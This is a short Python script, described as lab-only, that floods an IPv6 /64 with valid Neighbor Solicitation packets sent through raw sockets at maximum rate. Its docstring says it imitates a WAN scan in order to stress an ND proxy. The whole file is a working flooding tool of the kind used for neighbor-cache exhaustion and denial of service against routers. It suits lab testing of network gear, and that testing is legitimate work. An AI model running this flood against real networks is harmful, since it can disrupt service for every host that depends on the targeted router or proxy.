#!/usr/bin/env python3
"""Neighbor Solicitation flood aimed at a /64 (lab only, stdlib only).

nsflood.py IFACE PREFIX64 SECONDS [SRC]

Sends, for SECONDS, valid NS (hop limit 255, correct checksum, a source
link-layer address option) for random targets in PREFIX64 (e.g.
2001:db8:0:100::), each to its target's solicited-node group, from SRC
(default PREFIX64::1) and IFACE's MAC, as fast as one Python thread can.
This is what a scan of the /64 from the WAN looks like to an ND proxy.
Prints the number of frames sent and the rate.
"""

import ipaddress
import os
import socket
import struct
import sys
import time


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main() -> None:
    iface, prefix, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    net = int(ipaddress.IPv6Address(prefix)) & ~((1 << 64) - 1)
    src = ipaddress.IPv6Address(sys.argv[4] if len(sys.argv) > 4 else net | 1).packed
    mac = bytes.fromhex(open(f"/sys/class/net/{iface}/address").read().strip().replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    sent = 0
    t0 = time.monotonic()
    end = t0 + seconds
    while time.monotonic() < end:
        for _ in range(256):
            low = int.from_bytes(os.urandom(8), "big") | 0x100  # never ::0..::ff
            target = (net | low).to_bytes(16, "big")
            group = bytes.fromhex("ff02" + "00" * 9 + "01ff") + target[13:]
            dmac = b"\x33\x33" + group[12:]
            icmp = struct.pack("!BBHI", 135, 0, 0, 0) + target + b"\x01\x01" + mac
            pseudo = src + group + struct.pack("!I3xB", len(icmp), 58)
            c = csum(pseudo + icmp)
            icmp = icmp[:2] + struct.pack("!H", c) + icmp[4:]
            ip = struct.pack("!IHBB", 0x60000000, len(icmp), 58, 255) + src + group
            s.send(dmac + mac + b"\x86\xdd" + ip + icmp)
            sent += 1
    dt = time.monotonic() - t0
    print(f"sent {sent} NS in {dt:.1f} s ({sent / dt:.0f}/s)")


if __name__ == "__main__":
    main()
